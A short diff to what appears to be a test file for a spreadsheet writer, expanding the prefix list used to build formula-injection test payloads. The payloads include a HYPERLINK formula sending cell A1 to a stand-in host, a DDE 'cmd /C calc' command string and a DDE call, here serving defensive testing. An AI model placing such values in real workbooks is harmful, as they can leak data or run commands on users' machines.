@@ -16,7 +16,7 @@ from lib.berkas.reader import read_table
 from lib.berkas.sheetxml import CONTROLS
 from lib.berkas.writer import Cell, Column, Sheet, write_workbook
 
-HEADS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "'=", "|", "%"]
+HEADS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\t", "\r", "\n", " =", "＝", "＋", "－", "＠", "'=", "|", "%"]
 BODIES = ["1+1", 'HYPERLINK("http://contoh.id?x="&A1,"klik")', "cmd|' /C calc'!A0", 'SUM(1)*DDE("a";"b")']
 PAYLOADS = [head + body for head in HEADS for body in BODIES] + [
     "<f>1+1</f>",
